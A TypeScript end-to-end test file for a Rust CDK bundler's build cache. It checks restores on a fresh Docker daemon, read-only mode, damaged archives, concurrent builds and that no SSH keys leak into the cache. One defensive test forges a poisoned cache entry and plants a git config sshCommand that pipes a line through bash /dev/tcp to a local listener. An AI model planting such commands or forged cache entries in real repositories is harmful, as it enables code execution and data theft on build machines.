/**
 * The build cache end to end, through real builds with both Docker clients: a second Docker daemon with
 * a data root of its own stands for a fresh CI runner, and a copy of a crate at a new path stands for a
 * daemon whose target cache is empty (target caches are per project path). Every build here holds
 * CDK_RUST_CACHE_KEY (a trusted job), and a cache directory poisoned by the test stands for one written
 * by an attacker.
 */
import { spawn, spawnSync } from 'child_process';
import * as crypto from 'crypto';
import * as fs from 'fs';
import * as net from 'net';
import * as path from 'path';
import { Bundling, BundlingProps } from '../../lib/bundling/bundling';
import { detectDocker, runQuietBuild } from '../../lib/bundling/docker';
import { FreshDaemon, startFreshDaemon } from '../fresh-daemon';
import { TEST_CLIENTS, captureStderr, clientEnv, copyFixture, devEnv, listFiles, runBinary, tempDir, useEnvironment } from '../support';
import { tsNodeProcess } from '../ts-node-process';

const GREETING = 'hello cdk-rust, from a private git dependency\n';
/** The key of the trusted jobs of this file (a fresh one per run). */
const CACHE_KEY = crypto.randomBytes(32).toString('hex');
/** What another project left in the daemon's shared caches: a crate, and a git database of the same name as ours. */
const OTHER_CRATE = 'registry/cache/index.crates.io-1949cf8c6b5b557f/cdk-rust-other-project-0.0.1.crate';
const OTHER_DB = 'git/db/private-greeting-0000000000000000';

function props(crate: string, cacheDirectory: string): BundlingProps {
  const env = devEnv();
  return { manifestPath: path.join(crate, 'Cargo.toml'), builderImage: env.builderImage, knownHosts: env.knownHosts, cacheDirectory };
}

function build(crate: string, cacheDirectory: string): { log: string; stderr: string; bootstrap: string } {
  const { result, stderr } = captureStderr(() =>
    Bundling.build(Bundling.prepare(props(crate, cacheDirectory)), path.join(tempDir('asset'), 'asset')),
  );
  return { log: result.log, stderr, bootstrap: result.bootstrap };
}

function compiled(log: string): string[] {
  return [...log.matchAll(/Compiling (\S+) v/g)].map((m) => m[1]);
}

function editGreeting(crate: string, mark: string): void {
  const main = path.join(crate, 'src', 'main.rs');
  fs.writeFileSync(main, fs.readFileSync(main, 'utf-8').replace('println!("{}"', `println!("{}${mark}"`));
}

/** Every file of the cache directory and its size and time, to show that nothing was written. */
function snapshotOf(dir: string): string[] {
  return listFiles(dir).map((f) => `${path.relative(dir, f)} ${fs.statSync(f).size} ${fs.statSync(f).mtimeMs}`);
}

/** Cache directories this file made (hundreds of MB each), removed after its tests. */
const cacheDirs: string[] = [];
afterAll(() => cacheDirs.forEach((dir) => fs.rmSync(dir, { recursive: true, force: true })));

/** A copy of a primed cache directory (cheaper than a cold build per test). */
function copyOf(cacheDir: string): string {
  const copy = tempDir('ci-cache');
  cacheDirs.push(copy);
  fs.cpSync(cacheDir, copy, { recursive: true, preserveTimestamps: true });
  return copy;
}

/**
 * A cache directory holding one cold build of private-dep, made once for every test below (with the default,
 * classic client: the cache's contents do not depend on the client, and its key does not name it).
 */
let primed = '';
useEnvironment(() => ({ CDK_RUST_CACHE_KEY: CACHE_KEY }));
beforeAll(() => {
  plantOtherProjects();
  primed = tempDir('ci-cache-primed');
  cacheDirs.push(primed);
  const cold = build(copyFixture('private-dep'), primed);
  expect(cold.stderr).toMatch(/\[cdk-rust\] build cache: nothing stored for private-dep yet/);
  expect(cold.stderr).toMatch(/\[cdk-rust\] build cache: saved [0-9a-f]{16}-[0-9a-f]{16} \(/);
});

describe.each(TEST_CLIENTS)('build cache with the %s client', (client) => {
  useEnvironment(() => clientEnv(client));

  describe('on a fresh runner (a second Docker daemon that starts empty)', () => {
    let daemon: FreshDaemon | undefined;
    afterAll(() => daemon?.stop());

    test('a one-line change recompiles only the changed crate, from the restored cache, and the binary carries it', () => {
      const env = devEnv();
      const crate = copyFixture('private-dep');
      const cacheDir = copyOf(primed);
      // A new checkout (another path, new file times) of the sources the cache was saved from: nothing to compile.
      const first = build(crate, cacheDir);
      // (and the registry and git caches too, when this daemon has not seen them restored yet)
      expect(first.stderr).toMatch(/build cache: restored the target cache (and the registry and git caches )?of private-dep/);
      expect(compiled(first.log)).toEqual([]);
      expect(runBinary(first.bootstrap)).toBe(GREETING);

      editGreeting(crate, '!');
      daemon = startFreshDaemon();
      daemon.loadImage(env.builderImage);
      const mainDaemon = process.env.DOCKER_HOST;
      process.env.DOCKER_HOST = daemon.host;
      try {
        const second = build(crate, cacheDir);
        expect(second.stderr).toMatch(
          /build cache: restored the target cache and the registry and git caches of private-dep from [0-9a-f-]{33} \(/,
        );
        expect(compiled(second.log)).toEqual(['private-dep']);
        expect(runBinary(second.bootstrap)).toBe(GREETING.replace('\n', '!\n'));
        // The saved entry now carries the edit: a third runner compiles nothing.
        expect(second.stderr).toMatch(/build cache: saved /);
      } finally {
        if (mainDaemon === undefined) delete process.env.DOCKER_HOST;
        else process.env.DOCKER_HOST = mainDaemon;
        daemon.stop();
        daemon = undefined;
      }
    });
  });

  describe('on a daemon whose target cache is empty', () => {
    test('no key, agent socket or secret of the build reaches the cache directory', () => {
      const env = devEnv();
      const cacheDir = primed;
      const keyFile = path.join(path.dirname(env.sshAuthSock), 'client_ed25519');
      const keyBody = fs
        .readFileSync(keyFile, 'utf-8')
        .split('\n')
        .filter((l) => l && !l.startsWith('-----'))
        .join('');
      const needles = [keyBody.slice(0, 40), keyBody.slice(-40), 'PRIVATE KEY-----', env.sshAuthSock, 'SSH_AUTH_SOCK=', CACHE_KEY];
      const files = listFiles(cacheDir);
      expect(files.some((f) => f.endsWith('.tar'))).toBe(true);
      for (const file of files) {
        const bytes = fs.readFileSync(file);
        for (const needle of needles) expect([path.basename(file), bytes.includes(needle)]).toEqual([path.basename(file), false]);
      }
    });

    // The fallback is decided on the host, whatever the client: one cold build is enough.
    (client === 'classic' ? test : test.skip)(
      'a damaged archive is never used: the build runs cold, warns, and the binary is right',
      () => {
        const cacheDir = copyOf(primed);
        for (const object of listFiles(path.join(cacheDir, 'objects'))) {
          const bytes = fs.readFileSync(object);
          bytes[bytes.length >> 1] ^= 0xff;
          fs.writeFileSync(object, bytes);
        }
        const crate = copyFixture('private-dep');
        editGreeting(crate, '?');
        const second = build(crate, cacheDir);
        expect(second.stderr).toMatch(/build cache: the archives of \S+ do not match their digests; private-dep builds without the cache/);
        expect(compiled(second.log)).toEqual(expect.arrayContaining(['private-greeting', 'private-dep']));
        expect(runBinary(second.bootstrap)).toBe(GREETING.replace('\n', '?\n'));
        expect(second.stderr).toMatch(/build cache: saved /);
      },
    );

    test('read-only (pull-request builds): restores, and writes nothing', () => {
      const cacheDir = copyOf(primed);
      const before = snapshotOf(cacheDir);
      const saved = process.env.CDK_RUST_CACHE_READ_ONLY;
      process.env.CDK_RUST_CACHE_READ_ONLY = 'true';
      try {
        const crate = copyFixture('private-dep');
        editGreeting(crate, '#');
        const second = build(crate, cacheDir);
        expect(second.stderr).toMatch(/build cache: restored the target cache/);
        expect(compiled(second.log)).toEqual(['private-dep']);
        expect(second.stderr).not.toMatch(/build cache: saved/);
      } finally {
        if (saved === undefined) delete process.env.CDK_RUST_CACHE_READ_ONLY;
        else process.env.CDK_RUST_CACHE_READ_ONLY = saved;
      }
      expect(snapshotOf(cacheDir)).toEqual(before);
    });

    test('two synths at once on one cache directory both restore, build and save whole entries', async () => {
      const cacheDir = copyOf(primed);
      const crates = [copyFixture('private-dep'), copyFixture('private-dep')];
      crates.forEach((crate, i) => editGreeting(crate, ['1', '2'][i]));
      const synths = crates.map((crate) => synthInChild(crate, cacheDir));
      const results = await Promise.all(synths);
      results.forEach(({ code, stderr, outdir }, i) => {
        expect([code, stderr.slice(-2000)]).toEqual([0, expect.any(String)]);
        expect(stderr).toMatch(/build cache: restored the target cache/);
        const asset = fs.readdirSync(outdir).find((f) => /^asset\.[0-9a-f]{64}$/.test(f)) as string;
        expect(runBinary(path.join(outdir, asset, 'bootstrap'))).toBe(GREETING.replace('\n', `${i + 1}\n`));
      });
      const entries = fs.readdirSync(path.join(cacheDir, 'entries'));
      expect(entries).toHaveLength(1);
      expect(fs.readdirSync(path.join(cacheDir, 'tmp'))).toEqual([]);
    });
  });
});

describe('build cache: a saved entry holds only what the lock file names', () => {
  test('the dependency archive holds the locked git database’s objects only: no other project’s crate or same-named database, no index, checkout or config', () => {
    const entry = entriesOf(primed)[0];
    const names = tarList(path.join(primed, 'objects', `${entry.deps.sha256}.tar`));
    expect(names.length).toBeGreaterThan(0);
    for (const name of names) expect(name).toMatch(/^git\/db\/private-greeting-[0-9a-f]{16}\/objects\/[0-9a-f]/);
    expect(names.some((n) => n.startsWith(OTHER_DB))).toBe(false);
    expect(entry.tag).toMatch(/^[0-9a-f]{64}$/);
  });
});

describe('build cache: a poisoned cache directory, on a fresh runner', () => {
  let daemon: FreshDaemon | undefined;
  let closeListener: (() => Promise<string>) | undefined;
  afterAll(async () => {
    daemon?.stop();
    await closeListener?.();
  });

  test('a forged target cache and a git database with a planted sshCommand: the trusted sources are built, and nothing planted runs', async () => {
    const env = devEnv();
    // The attacker: a build of their own sources (the greeting changed), then its target archive with an inputs
    // manifest saying the trusted main.rs is what was compiled, re-digested; and a git database whose config runs a command.
    const attackerCrate = copyFixture('private-dep');
    editGreeting(attackerCrate, ' PWNED');
    const poisoned = copyOf(primed);
    build(attackerCrate, poisoned);
    const trustedMain = fs.readFileSync(path.join(__dirname, '..', 'fixtures', 'private-dep', 'src', 'main.rs'));
    const dbName = tarList(path.join(primed, 'objects', `${entriesOf(primed)[0].deps.sha256}.tar`))
      .map((name) => /^git\/db\/private-greeting-[0-9a-f]{16}/.exec(name)?.[0])
      .find((name) => name !== undefined) as string;
    expect(dbName).toBeDefined();
    const listener = await listen();
    closeListener = listener.close;
    forgeEntry(poisoned, trustedMain, dbName, listener.port);

    daemon = startFreshDaemon();
    daemon.loadImage(env.builderImage);
    const mainDaemon = process.env.DOCKER_HOST;
    process.env.DOCKER_HOST = daemon.host;
    try {
      const trusted = build(copyFixture('private-dep'), poisoned);
      expect(trusted.stderr).toMatch(/warning: build cache: [0-9a-f-]{33} is not signed with this CDK_RUST_CACHE_KEY/);
      expect(trusted.stderr).not.toMatch(/restored the target cache/);
      expect(compiled(trusted.log)).toEqual(expect.arrayContaining(['private-greeting', 'private-dep']));
      expect(runBinary(trusted.bootstrap)).toBe(GREETING);
    } finally {
      if (mainDaemon === undefined) delete process.env.DOCKER_HOST;
      else process.env.DOCKER_HOST = mainDaemon;
      daemon.stop();
      daemon = undefined;
    }
    closeListener = undefined;
    expect(await listener.close()).toBe('');
  });
});

/** The entries of a cache directory. */
function entriesOf(cacheDir: string): Array<{ key: string; deps: { sha256: string }; target: { sha256: string }; tag?: string }> {
  return fs.readdirSync(path.join(cacheDir, 'entries')).map((f) => JSON.parse(fs.readFileSync(path.join(cacheDir, 'entries', f), 'utf-8')));
}

function tarList(file: string): string[] {
  const result = spawnSync('tar', ['-tf', file], { encoding: 'utf-8' });
  if (result.status !== 0) throw new Error(result.stderr);
  return result.stdout.split('\n').filter((l) => l);
}

function run(command: string, args: string[], cwd?: string): void {
  const result = spawnSync(command, args, {
    cwd,
    encoding: 'utf-8',
    env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: '/nonexistent' },
  });
  if (result.status !== 0) throw new Error(`${command} ${args.join(' ')}: ${result.stderr}`);
}

/**
 * Rewrites the only entry of `cacheDir` as an attacker who can write the directory, but has no key, would:
 * the target archive's inputs manifest gives the trusted main.rs the time of the planted artifacts, the
 * dependency archive is an empty git database `dbName` whose config sends a line to `port` before running
 * ssh, and the entry names the new archives' digests (its tag is left as it was).
 */
function forgeEntry(cacheDir: string, trustedMain: Buffer, dbName: string, port: number): void {
  const [entry] = entriesOf(cacheDir);
  const work = tempDir('forge');
  const target = path.join(work, 'target');
  fs.mkdirSync(target);
  run('tar', ['-xf', path.join(cacheDir, 'objects', `${entry.target.sha256}.tar`), '-C', target]);
  const manifest = path.join(target, '.cdk-rust-inputs');
  const trustedSha = crypto.createHash('sha256').update(trustedMain).digest('hex');
  const lines = fs.readFileSync(manifest, 'utf-8').split('\n');
  expect(lines.filter((l) => l.endsWith(' ./src/main.rs'))).toHaveLength(1);
  fs.writeFileSync(manifest, lines.map((l) => (l.endsWith(' ./src/main.rs') ? trustedSha + l.slice(64) : l)).join('\n'));
  run('tar', ['-cf', path.join(work, 'target.tar'), '-C', target, '.']);

  const deps = path.join(work, 'deps');
  run('git', ['init', '-q', '--bare', path.join(deps, dbName)]);
  fs.appendFileSync(
    path.join(deps, dbName, 'config'),
    `[core]\n\tsshCommand = bash -c 'echo planted-sshCommand-ran > /dev/tcp/127.0.0.1/${port}; exec ssh \\"$@\\"' ssh\n`,
  );
  run('tar', ['-cf', path.join(work, 'deps.tar'), '-C', deps, 'git']);

  const object = (file: string) => {
    const bytes = fs.readFileSync(file);
    const sha256 = crypto.createHash('sha256').update(bytes).digest('hex');
    fs.writeFileSync(path.join(cacheDir, 'objects', `${sha256}.tar`), bytes);
    return { sha256, size: bytes.length };
  };
  const forged = { ...entry, target: object(path.join(work, 'target.tar')), deps: object(path.join(work, 'deps.tar')) };
  fs.writeFileSync(path.join(cacheDir, 'entries', `${entry.key}.json`), JSON.stringify(forged, undefined, 2));
}

/** A TCP listener on 127.0.0.1 that collects what is sent to it (connections wait in the backlog while a build blocks). */
async function listen(): Promise<{ port: number; close: () => Promise<string> }> {
  let received = '';
  const server = net.createServer((socket) => socket.on('data', (chunk) => (received += chunk.toString())));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as net.AddressInfo).port;
  return {
    port,
    close: async () => {
      await new Promise((resolve) => setTimeout(resolve, 500));
      await new Promise((resolve) => server.close(resolve));
      return received;
    },
  };
}

/**
 * Leaves in the main daemon's shared caches what another project would: a crate this workspace does not
 * use, and a git database named like its dependency that does not hold its commit.
 */
function plantOtherProjects(): void {
  const dir = tempDir('plant');
  fs.writeFileSync(
    path.join(dir, 'Dockerfile'),
    [
      `FROM ${devEnv().builderImage} AS cache`,
      'ARG CDK_RUST_BUILD_ID',
      'RUN --mount=type=cache,id=cdk-rust-cargo-registry,target=/usr/local/cargo/registry,sharing=locked \\',
      '    --mount=type=cache,id=cdk-rust-cargo-git,target=/usr/local/cargo/git,sharing=locked \\',
      `    cd /usr/local/cargo && mkdir -p ${path.dirname(OTHER_CRATE)} && echo other > ${OTHER_CRATE} \\`,
      `    && { [ -d ${OTHER_DB} ] || git init -q --bare ${OTHER_DB}; } && mkdir -p /out && echo ok > /out/ok`,
      'FROM scratch AS export',
      'COPY --from=cache /out/ /',
      '',
    ].join('\n'),
  );
  const result = runQuietBuild(detectDocker(), dir, 'export', path.join(dir, 'out'));
  if (result.status !== 0) throw new Error(result.output);
}

/** Synthesizes a one-function app for `crate` in a child process, with the cache directory from the environment. */
function synthInChild(crate: string, cacheDir: string): Promise<{ code: number | null; stderr: string; outdir: string }> {
  const outdir = tempDir('synth');
  const synthOne = path.join(__dirname, '..', 'fixtures', 'synth-one.ts');
  const proc = tsNodeProcess(synthOne, [path.join(crate, 'Cargo.toml'), outdir], { CDK_RUST_CACHE_DIR: cacheDir });
  const child = spawn(proc.command, proc.args, proc.options);
  let stderr = '';
  child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
  return new Promise((resolve, reject) => {
    child.on('exit', (code) => resolve({ code, stderr, outdir }));
    child.on('error', reject);
  });
}
